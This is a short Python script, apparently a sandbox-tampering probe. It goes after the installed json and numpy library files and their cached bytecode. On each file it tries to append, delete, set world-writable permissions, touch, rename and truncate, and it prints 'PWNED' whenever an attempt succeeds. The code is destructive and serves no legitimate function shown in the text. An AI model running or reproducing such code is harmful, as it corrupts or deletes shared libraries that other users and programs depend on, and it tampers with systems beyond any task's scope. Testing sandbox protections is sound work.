"""Rewrites library files and their cached bytecode for the next who imports them."""
import json
import os

import numpy as np

for module in (json, np):
    for name in (module.__file__, module.__cached__):
        for action in (lambda n: open(n, "ab").close(), os.unlink, lambda n: os.chmod(n, 0o777), lambda n: os.utime(n), lambda n: os.rename(n, n + "x"), lambda n: os.truncate(n, 0)):
            try:
                action(name)
                print("PWNED", name)
            except OSError:
                continue
print("TRIED")
